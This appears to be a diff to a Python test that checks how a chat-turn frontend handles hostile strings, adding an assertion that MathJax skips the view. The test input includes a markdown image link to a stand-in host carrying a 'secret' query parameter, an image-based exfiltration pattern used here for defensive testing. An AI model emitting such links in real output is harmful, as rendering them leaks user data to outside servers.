@@ -184,7 +184,8 @@ async def test_form_starts_with_required_choices_unset_and_validates(frontend: F
 
 async def test_hostile_strings_in_every_block(frontend: Frontend):
     turn, sink = Turn("s1"), RecordingSink()
-    TurnOutput(turn, sink)
+    view = TurnOutput(turn, sink)
+    assert {"tex2jax_ignore", "mathjax_ignore"} <= set(view.widget._dom_classes)  # MathJax skips the view
     turn.apply_update(text(f"text {IMG} {SPAN} ![leak](http://leak.example/x.png?secret=1)\n\n"))
     turn.apply_update(thought(f"thinking {IMG}"))
     turn.apply_update(tool_call("t1", f"Edit {IMG}", "edit", "completed", locations=[{"path": NL_PATH}], content=[
